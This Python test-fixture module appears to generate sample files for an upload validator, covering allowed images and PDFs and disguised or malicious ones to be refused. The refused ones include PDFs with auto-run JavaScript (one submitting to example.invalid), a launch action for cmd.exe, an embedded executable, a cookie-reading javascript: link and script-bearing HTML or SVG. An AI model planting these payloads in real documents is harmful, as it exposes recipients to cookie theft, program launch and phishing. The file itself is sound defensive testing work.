"""Real files of every allowed format and of refused ones, made with Pillow, pypdf and the
standard library (no hand-written magic bytes)."""

from __future__ import annotations

import io
import zipfile
from functools import cache
from pathlib import Path

from PIL import Image, ImageDraw
from pypdf import PdfWriter
from pypdf.generic import (
    ArrayObject,
    DecodedStreamObject,
    DictionaryObject,
    NameObject,
    NumberObject,
    PdfObject,
    TextStringObject,
)


def _picture(mode: str = "RGB") -> Image.Image:
    image = Image.new(mode, (48, 32), "white")
    draw = ImageDraw.Draw(image)
    draw.rectangle((4, 4, 40, 24), outline="red", fill="blue")
    draw.text((6, 8), "MC", fill="yellow")
    return image


def _save(image: Image.Image, file_format: str, **options: object) -> bytes:
    buffer = io.BytesIO()
    image.save(buffer, file_format, **options)
    return buffer.getvalue()


@cache
def allowed_files() -> dict[str, tuple[bytes, str]]:
    """name → (bytes, MIME type the content must be recognised as)."""
    picture = _picture()
    return {
        "invoice.pdf": (_save(picture, "PDF", resolution=72.0), "application/pdf"),
        "photo.png": (_save(picture, "PNG"), "image/png"),
        "photo.jpg": (_save(picture, "JPEG", quality=85), "image/jpeg"),
        "photo.jpeg": (_save(picture, "JPEG", quality=60), "image/jpeg"),
        "animation.gif": (_save(_picture("P"), "GIF"), "image/gif"),
        "scan.bmp": (_save(picture, "BMP"), "image/bmp"),
        "scan.tif": (_save(picture, "TIFF", compression="tiff_lzw"), "image/tiff"),
        "scan.tiff": (_save(picture, "TIFF"), "image/tiff"),
    }


def _zip(entries: dict[str, bytes]) -> bytes:
    buffer = io.BytesIO()
    with zipfile.ZipFile(buffer, "w", zipfile.ZIP_DEFLATED) as archive:
        for name, data in entries.items():
            archive.writestr(name, data)
    return buffer.getvalue()


def windows_executable() -> bytes:
    """A real Windows PE executable shipped inside pip (distlib's launcher) or setuptools."""
    import pip

    candidates = [
        *Path(pip.__file__).parent.glob("_vendor/distlib/*.exe"),
        *Path(Image.__file__).parents[1].glob("setuptools/*.exe"),
    ]
    if not candidates:  # pragma: no cover - pip always ships them on every platform
        raise RuntimeError("no Windows executable found to test with")
    return sorted(candidates)[0].read_bytes()


@cache
def refused_files() -> dict[str, bytes]:
    """Files that must be refused, each named with an allowed extension to try to sneak in."""
    picture = _picture()
    return {
        "invoice.pdf": windows_executable(),
        "photo.png": _save(picture, "WEBP"),
        "scan.jpg": _save(picture, "ICO"),
        "document.pdf": _zip({"word/document.xml": b"<w:document/>", "[Content_Types].xml": b"<Types/>"}),
        "archive.png": _zip({"a.txt": b"hello"}),
        "page.gif": b"<!doctype html><html><script>alert(1)</script></html>",
        "vector.png": b'<svg xmlns="http://www.w3.org/2000/svg"><script>alert(1)</script></svg>',
        "photoshop.tiff": _save(picture, "PSD") if "PSD" in Image.SAVE else _save(picture, "TGA"),
    }


def truncated(content: bytes) -> bytes:
    return content[: len(content) // 2]


# --- PDFs: a clean multi-page document, and documents that must be refused -----------------------


def _pdf_writer(pages: int) -> PdfWriter:
    """A plain document: ``pages`` A4 pages, each with a line of text in a standard font."""
    writer = PdfWriter()
    font = writer._add_object(
        DictionaryObject(
            {
                NameObject("/Type"): NameObject("/Font"),
                NameObject("/Subtype"): NameObject("/Type1"),
                NameObject("/BaseFont"): NameObject("/Helvetica"),
            }
        )
    )
    for number in range(1, pages + 1):
        page = writer.add_blank_page(width=595, height=842)
        text = DecodedStreamObject()
        text.set_data(f"BT /F1 18 Tf 72 760 Td (Faktura VAT - strona {number}) Tj ET".encode())
        page[NameObject("/Contents")] = writer._add_object(text)
        page[NameObject("/Resources")] = DictionaryObject(
            {NameObject("/Font"): DictionaryObject({NameObject("/F1"): font})}
        )
    return writer


def _written(writer: PdfWriter) -> bytes:
    buffer = io.BytesIO()
    writer.write(buffer)
    return buffer.getvalue()


def _action(kind: str, **entries: PdfObject) -> DictionaryObject:
    return DictionaryObject(
        {NameObject("/S"): NameObject(kind), **{NameObject(f"/{key}"): value for key, value in entries.items()}}
    )


def _link(action: DictionaryObject) -> DictionaryObject:
    return DictionaryObject(
        {
            NameObject("/Type"): NameObject("/Annot"),
            NameObject("/Subtype"): NameObject("/Link"),
            NameObject("/Rect"): ArrayObject([NumberObject(n) for n in (72, 700, 300, 720)]),
            NameObject("/A"): action,
        }
    )


def clean_pdf(pages: int = 3) -> bytes:
    """A multi-page document with nothing active in it (and an ordinary web link)."""
    writer = _pdf_writer(pages)
    link = _link(_action("/URI", URI=TextStringObject("https://allegro.pl/pomoc")))
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return _written(writer)


def _javascript_in_names() -> bytes:
    writer = _pdf_writer(2)
    script = _action("/JavaScript", JS=TextStringObject("app.alert('Zaplac na konto 12 3456');"))
    tree = DictionaryObject({NameObject("/Names"): ArrayObject([TextStringObject("init"), writer._add_object(script)])})
    writer.root_object[NameObject("/Names")] = DictionaryObject({NameObject("/JavaScript"): writer._add_object(tree)})
    return _written(writer)


def _javascript_on_open() -> bytes:
    writer = _pdf_writer(2)
    script = _action("/JavaScript", JS=TextStringObject("this.submitForm('https://example.invalid/x');"))
    writer.root_object[NameObject("/OpenAction")] = writer._add_object(script)
    return _written(writer)


def _launch_link() -> bytes:
    writer = _pdf_writer(2)
    launch = _action("/Launch", F=TextStringObject("C:\\Windows\\System32\\cmd.exe"))
    writer.pages[1][NameObject("/Annots")] = ArrayObject([writer._add_object(_link(launch))])
    return _written(writer)


def _embedded_file() -> bytes:
    writer = _pdf_writer(1)
    writer.add_attachment("faktura.exe", windows_executable()[:4096])
    return _written(writer)


def _javascript_link() -> bytes:
    writer = _pdf_writer(1)
    link = _link(_action("/URI", URI=TextStringObject("javascript:alert(document.cookie)")))
    writer.pages[0][NameObject("/Annots")] = ArrayObject([writer._add_object(link)])
    return _written(writer)


def _javascript_when_a_page_opens() -> bytes:
    writer = _pdf_writer(2)
    script = _action("/JavaScript", JS=TextStringObject("app.launchURL('https://example.invalid');"))
    writer.pages[1][NameObject("/AA")] = DictionaryObject({NameObject("/O"): script})
    return _written(writer)


def _xfa_form() -> bytes:
    writer = _pdf_writer(1)
    xfa = DecodedStreamObject()
    xfa.set_data(b'<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><script>app.alert(1)</script></xdp:xdp>')
    writer.root_object[NameObject("/AcroForm")] = DictionaryObject(
        {NameObject("/Fields"): ArrayObject(), NameObject("/XFA"): writer._add_object(xfa)}
    )
    return _written(writer)


@cache
def refused_pdfs() -> dict[str, bytes]:
    """PDF-looking files that must be refused, by what makes them dangerous or fake."""
    return {
        "javascript in the names tree": _javascript_in_names(),
        "javascript as the open action": _javascript_on_open(),
        "javascript when a page opens": _javascript_when_a_page_opens(),
        "javascript link": _javascript_link(),
        "launch action in a link": _launch_link(),
        "embedded executable": _embedded_file(),
        "xfa form": _xfa_form(),
        "garbage between header and end marker": b"%PDF-1.7\n" + bytes(range(256)) * 8 + b"\n%%EOF\n",
        "html with a pdf header": (
            b"%PDF-1.4\n<!doctype html><html><body><script>fetch('/messaging/threads')</script></body></html>\n%%EOF\n"
        ),
        "html after the end marker": clean_pdf(1) + b"<html><script>alert(1)</script></html>\n",
    }
